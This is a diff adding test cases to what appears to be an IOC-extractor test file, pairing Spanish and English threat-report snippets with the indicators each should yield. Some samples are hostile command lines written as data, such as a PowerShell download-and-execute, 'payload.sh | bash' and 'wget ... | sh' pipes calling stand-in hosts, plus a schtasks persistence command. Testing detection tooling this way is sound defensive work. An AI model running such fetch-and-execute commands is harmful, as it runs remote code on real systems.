@@ -5,7 +5,7 @@ const md5 = '9e107d9d372bb6826bd81d3542a419d6';
 const sha1 = '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12';
 const sha256 = 'd7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592';
 
-/** Written for this test, in the two languages of most reports. Names are reserved, invented, or from documentation ranges. */
+/** Written for this test, in the two languages of most reports. Attackers here are invented or from documentation ranges. */
 export const sentences: readonly Sentence[] = [
   // Defanged in every common way.
   { text: 'Beacons to hxxp://evil-cdn[.]com/gate.php every minute.', expected: ['url http://evil-cdn.com/gate.php'] },
@@ -157,6 +157,213 @@ export const sentences: readonly Sentence[] = [
   { text: 'a := b.c; x.y.z()', expected: [] },
   { text: 'Reunión a las 10:30:15 en sala B::2', expected: [] },
   { text: 'https:// y http://localhost:3000/api no cuentan', expected: [] },
+
+  // Reports, logs, lists: written after the extractor, to see what it makes of texts that it was not built on.
+  {
+    text: 'Buenas, os paso IOCs: 198.51.100[.]12:443, cdn-inventado[.]xyz, https://cdn-inventado[.]xyz/api/v2?x=1',
+    expected: ['ip-dst|port 198.51.100.12|443', 'domain cdn-inventado.xyz', 'url https://cdn-inventado.xyz/api/v2?x=1'],
+  },
+  {
+    text: 'El fichero "Presupuesto 2026.docm" (SHA256 d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592) descarga de hxxp://198[.]51[.]100[.]13/a.bin',
+    expected: ['sha256 d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592', 'url http://198.51.100.13/a.bin'],
+  },
+  { text: 'La campaña afecta a FortiOS 7.4.2 y anteriores (CVE-2024-21762, CVSS 9.6).', expected: ['vulnerability CVE-2024-21762'] },
+  { text: 'Actualizar a la 10.2.9.1 cuanto antes', expected: [] },
+  {
+    text: 'Attackers logged in from 198.51.100.45 and 198.51.100.46 using VPN version 5.2.1.0',
+    expected: ['ip-dst 198.51.100.45', 'ip-dst 198.51.100.46'],
+  },
+  { text: 'Sender spoofed: no-reply@tributos-es[.]info', expected: ['email no-reply@tributos-es.info'] },
+  {
+    text: 'Ransom note README.txt; contact lock_help@onionmail.org or https://t.me/lockhelp',
+    expected: ['email lock_help@onionmail.org', 'url https://t.me/lockhelp'],
+  },
+  {
+    text: '.onion: http://juhanurmihxlp77nkq76byazcldy2hlmovfu2epvl5ankdibsot4csyd.onion/ para negociar',
+    expected: ['url http://juhanurmihxlp77nkq76byazcldy2hlmovfu2epvl5ankdibsot4csyd.onion/'],
+  },
+  {
+    text: 'powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://evil-ps.com/a.ps1\')"',
+    expected: ['url http://evil-ps.com/a.ps1'],
+  },
+  {
+    text: 'schtasks /create /tn Updater /tr C:\\ProgramData\\upd\\svc.exe /sc minute',
+    expected: ['filename C:\\ProgramData\\upd\\svc.exe'],
+  },
+  {
+    text: 'Clave HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater.',
+    expected: ['regkey HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater'],
+  },
+  {
+    text: 'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36',
+    expected: [],
+  },
+  { text: 'Subnet 10.20.0.0/16 escaneada desde 10.20.3.4', expected: ['ip-dst 10.20.0.0/16', 'ip-dst 10.20.3.4'] },
+  { text: 'dns: ns1.evil-dns.net, ns2.evil-dns.net', expected: ['hostname ns1.evil-dns.net', 'hostname ns2.evil-dns.net'] },
+  {
+    text: '{"ip":"203.0.113.4","domain":"json-bad.com","url":"http:\\/\\/json-bad.com\\/x"}',
+    expected: ['ip-dst 203.0.113.4', 'domain json-bad.com', 'url http://json-bad.com/x'],
+  },
+  {
+    text: 'ip,domain,hash\n203.0.113.8,csv-bad.com,9e107d9d372bb6826bd81d3542a419d6',
+    expected: ['ip-dst 203.0.113.8', 'domain csv-bad.com', 'md5 9e107d9d372bb6826bd81d3542a419d6'],
+  },
+  {
+    text: '203.0.113.8;csv-bad.com;9e107d9d372bb6826bd81d3542a419d6',
+    expected: ['ip-dst 203.0.113.8', 'domain csv-bad.com', 'md5 9e107d9d372bb6826bd81d3542a419d6'],
+  },
+  { text: 'Resolves to 203.0.113.8 (AS64501, Evil Hosting Ltd.)', expected: ['ip-dst 203.0.113.8', 'AS AS64501'] },
+  {
+    text: 'https://www.virustotal.com/gui/file/d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592',
+    expected: ['url https://www.virustotal.com/gui/file/d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592'],
+  },
+  {
+    text: 'Nov 23 10:11:12 fw01 kernel: DROP IN=eth0 SRC=203.0.113.99 DST=10.0.0.5 PROTO=TCP SPT=443',
+    expected: ['ip-dst 203.0.113.99', 'ip-dst 10.0.0.5'],
+  },
+  { text: '[2026-11-23T10:11:12.123Z] 203.0.113.98 - - "GET /index.php HTTP/1.1" 200', expected: ['ip-dst 203.0.113.98'] },
+  { text: 'Teléfono: 600.123.123 / fax 91.555.10.10', expected: [] },
+  { text: 'Reunión con example.com? No: con el equipo de la empresa.', expected: ['domain example.com'] },
+  { text: 'Hemos bloqueado *.evil-wild.com en el proxy', expected: ['domain evil-wild.com'] },
+  { text: 'evil-slash[.]com/', expected: ['domain evil-slash.com'] },
+  { text: 'IPs: 1[.]2[.]3[.]4, 5[.]6[.]7[.]8', expected: ['ip-dst 1.2.3.4', 'ip-dst 5.6.7.8'] },
+  { text: 'hxxp:\\\\evil-back[.]com\\x', expected: ['url http://evil-back.com/'] },
+  { text: 'El malware usa el dominio evil-es[.]com. Después baja el payload.', expected: ['domain evil-es.com'] },
+  { text: 'El malware usa evil-es2[.]com.Después baja el payload', expected: ['domain evil-es2.com'] },
+  { text: 'http://evil-md.com/path_with_(parens)_and_more, dijo', expected: ['url http://evil-md.com/path_with_(parens)_and_more'] },
+  {
+    text: 'Contacted hxxps://drive.google[.]com/uc?id=1AbC&export=download.',
+    expected: ['url https://drive.google.com/uc?id=1AbC&export=download'],
+  },
+  { text: 'mailto:bad@evil-mailto.com', expected: ['email bad@evil-mailto.com'] },
+  { text: '<a href="http://evil-href.com/a?b=1&amp;c=2">x</a>', expected: ['url http://evil-href.com/a?b=1&amp;c=2'] },
+  {
+    text: 'sha256:d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592 (loader)',
+    expected: ['sha256 d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592'],
+  },
+  {
+    text: 'd7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592.exe',
+    expected: ['sha256 d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592'],
+  },
+  {
+    text: 'Monero 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
+    expected: ['xmr 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'],
+  },
+  { text: 'La librería log4j-core-2.14.1.jar y spring.io', expected: ['domain spring.io'] },
+  { text: 'kernel32.dll, ntdll.dll and advapi32.dll imports', expected: [] },
+  { text: 'Puntuación 7.5.1.2 en la sección 3', expected: ['ip-dst 7.5.1.2'] },
+  { text: 'IOC: evil.co.uk', expected: ['domain evil.co.uk'] },
+  { text: 'Firma: Get-WmiObject Win32_Process; $env:TEMP\\a.exe', expected: [] },
+  { text: 'Fwd: RE: [SOC-123] Alerta evil-subject[.]com', expected: ['domain evil-subject.com'] },
+  { text: 'X-Originating-IP: [203.0.113.44]', expected: ['ip-dst 203.0.113.44'] },
+  {
+    text: 'Received: from mx.evil-rcv.com (mx.evil-rcv.com [203.0.113.45]) by mail.ejemplo.es with ESMTP id abc123',
+    expected: ['hostname mx.evil-rcv.com', 'ip-dst 203.0.113.45', 'hostname mail.ejemplo.es'],
+  },
+  { text: 'from datetime import date; print(date.today())', expected: [] },
+  { text: 'Contraseña del zip: infected. Ver adjunto.', expected: [] },
+  { text: 'es/en, 24/7, 1/2, TCP/443, UDP/53', expected: [] },
+  { text: 'TLP:AMBER+STRICT  PAP:RED', expected: [] },
+  { text: 'evil[.]com[.]br and sub[.]evil[.]com[.]br', expected: ['domain evil.com.br', 'hostname sub.evil.com.br'] },
+  { text: 'hxxp://198.51.100[.]7:8080/payload.sh | bash', expected: ['url http://198.51.100.7:8080/payload.sh'] },
+  { text: '2001:db8:85a3::8a2e:370:7334 y [2001:db8::9]:443', expected: ['ip-dst 2001:db8:85a3::8a2e:370:7334', 'ip-dst 2001:db8::9'] },
+  { text: 'ver https://example.org/informe.pdf (pág. 3)', expected: ['url https://example.org/informe.pdf'] },
+  {
+    text: 'JARM 27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d',
+    expected: ['jarm-fingerprint 27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d'],
+  },
+  {
+    text: 'El hash del certificado es 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12',
+    expected: ['x509-fingerprint-sha1 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12'],
+  },
+  { text: 'El adjunto se llama Factura_Nov.xlsm', expected: ['filename Factura_Nov.xlsm'] },
+
+  // And a second time.
+  {
+    text: 'Compromised hosts beaconed to comprobar-version-mala[.]live over TCP 8443 every 60 s.',
+    expected: ['domain comprobar-version-mala.live'],
+  },
+  {
+    text: 'Los equipos contactan con 198[.]51[.]100[.]113 (puerto 4782) y con su.cueva-mala[.]com',
+    expected: ['ip-dst 198.51.100.113', 'hostname su.cueva-mala.com'],
+  },
+  {
+    text: 'Loader URL: hxxps[://]cdn[.]discordapp[.]com/attachments/1/2/a.zip?ex=1',
+    expected: ['url https://cdn.discordapp.com/attachments/1/2/a.zip?ex=1'],
+  },
+  {
+    text: 'phishing: https://sede-tributos.gob-es[.]top/renta2026/',
+    expected: ['url https://sede-tributos.gob-es.top/renta2026/'],
+  },
+  {
+    text: 'Los dominios banco-inventado-clientes[.]com, otrobanco-seguro[.]net y caja-inventada-app[.]online ya no resuelven.',
+    expected: ['domain banco-inventado-clientes.com', 'domain otrobanco-seguro.net', 'domain caja-inventada-app.online'],
+  },
+  {
+    text: 'Our site www.ejemplo.gob.es was defaced; attacker IP was 198.51.100.140.',
+    expected: ['hostname www.ejemplo.gob.es', 'ip-dst 198.51.100.140'],
+  },
+  { text: 'Se recomienda actualizar Citrix ADC a 13.1-49.15 o 14.1-8.50.', expected: [] },
+  { text: 'Se ha publicado la versión 8.0.25.1 de MySQL y la 5.7.44.2', expected: [] },
+  { text: 'Build 10.0.22631.2715', expected: [] },
+  { text: 'El servidor tiene la IP 10.0.0.1 y la máscara 255.255.255.0', expected: ['ip-dst 10.0.0.1', 'ip-dst 255.255.255.0'] },
+  {
+    text: 'Exploit for CVE-2023-34362, CVE-2023-35036 & CVE-2023-35708',
+    expected: ['vulnerability CVE-2023-34362', 'vulnerability CVE-2023-35036', 'vulnerability CVE-2023-35708'],
+  },
+  { text: 'hash 9E107D9D372BB6826BD81D3542A419D6 firmado', expected: ['md5 9e107d9d372bb6826bd81d3542a419d6'] },
+  { text: 'Importe: 1.500.000 EUR, IVA 21.00, cuenta ES91 2100 0418 4502 0005 1332', expected: [] },
+  { text: 'DNI 12.345.678-Z y matrícula 1234 BCD', expected: [] },
+  { text: 'Fecha: 23.11.2026 10.11.12', expected: [] },
+  { text: 'Tel.: +34 912.345.678, móvil 612.34.56.78', expected: [] },
+  { text: 'http://203.0.113[.]50/%7Euser/a.php?x[]=1', expected: ['url http://203.0.113.50/%7Euser/a.php?x[]=1'] },
+  { text: 'wget -q hxxp://203[.]0[.]113[.]51/bins.sh -O- | sh', expected: ['url http://203.0.113.51/bins.sh'] },
+  { text: 'Extensiones: .exe .zip .js; carpetas tmp, var.log', expected: [] },
+  { text: 'document.cookie y window.location.href se envían a evil-js.io/c', expected: ['url http://evil-js.io/c'] },
+  { text: 'Class com.example.app.MainActivity implements java.io.Serializable', expected: [] },
+  { text: 'Paquete Android com.whatsapp.clone', expected: [] },
+  { text: 'pip install requests==2.31.0; npm i express@4.18.2', expected: [] },
+  { text: 'El script deploy.sh llama a run.py y a utils.pl', expected: [] },
+  {
+    text: 'Telegram bot: https://api.telegram.org/bot123:ABC/sendMessage',
+    expected: ['url https://api.telegram.org/bot123:ABC/sendMessage'],
+  },
+  {
+    text: 'smtp.evil-mail.com:587 con usuario logs@evil-mail.com',
+    expected: ['hostname|port smtp.evil-mail.com|587', 'email logs@evil-mail.com'],
+  },
+  { text: 'MX de evil-mx.com: mail.evil-mx.com.', expected: ['domain evil-mx.com', 'hostname mail.evil-mx.com'] },
+  { text: 'Nombre de la tarea: \\Microsoft\\Windows\\UpdateOrchestrator\\evil', expected: [] },
+  { text: '%APPDATA%\\Roaming\\svc\\winlog.exe', expected: ['filename %APPDATA%\\Roaming\\svc\\winlog.exe'] },
+  { text: '/tmp/.x/kworker y /etc/cron.d/evil', expected: [] },
+  { text: 'ET MALWARE; sid:2024897; rev:3; content:"|0d 0a|"; pcre:"/^\\/gate\\.php/"', expected: [] },
+  { text: 'alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"x"; sid:1;)', expected: [] },
+  { text: 'Evil Corp. sells via evil-shop[.]ru (also evil-shop[.]su).', expected: ['domain evil-shop.ru', 'domain evil-shop.su'] },
+  { text: 'host: EVIL-HOST[.]COM.', expected: ['domain evil-host.com'] },
+  { text: '203.0.113.60/32, 203.0.113.64/26', expected: ['ip-dst 203.0.113.60', 'ip-dst 203.0.113.64/26'] },
+  { text: 'fe80::1%eth0 y ::ffff:203.0.113.61', expected: ['ip-dst 203.0.113.61'] },
+  { text: 'uid=0(root) gid=0(root)', expected: [] },
+  { text: 'ratio 16:9, hora 10:11:12, puerto 8080:80', expected: [] },
+  { text: 'sha1sum: 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12  ./a.out', expected: ['sha1 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12'] },
+  { text: 'blob 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12a1', expected: [] },
+  { text: 'Vendedor en foro-robado[.]vc, usuario "x0r"', expected: ['domain foro-robado.vc'] },
+  { text: '>> dominio-citado[.]es\n> otro-citado.com', expected: ['domain dominio-citado.es', 'domain otro-citado.com'] },
+  {
+    text: 'Ver https://attack.mitre.org/techniques/T1566/001/ (T1566.001)',
+    expected: ['url https://attack.mitre.org/techniques/T1566/001/'],
+  },
+  { text: 'TA0001, T1059.003, S0154, G0047', expected: [] },
+  { text: 'Es un ataque de tipo man.in.the.middle', expected: [] },
+  { text: 'Gracias.\n\nAtentamente,\nPepe López\nTel. 91.111.22.33', expected: [] },
+  { text: 'Contacto: csirt@ejemplo-cert.es', expected: ['email csirt@ejemplo-cert.es'] },
+  { text: 'IP:203.0.113.70 PORT:443 SNI:evil-sni.com', expected: ['ip-dst 203.0.113.70', 'domain evil-sni.com'] },
+  { text: 'ServidorDNS=203.0.113.71', expected: ['ip-dst 203.0.113.71'] },
+  {
+    text: 'evil_under.example-x.com y _acme-challenge.example-x.com',
+    expected: ['hostname evil_under.example-x.com', 'hostname _acme-challenge.example-x.com'],
+  },
+  { text: 'AS13335 y AS 15169 (ASN de proveedores)', expected: ['AS AS13335', 'AS AS15169'] },
+  { text: 'Pago: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq o en XMR', expected: ['btc bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'] },
 
   // Signatures.
   {
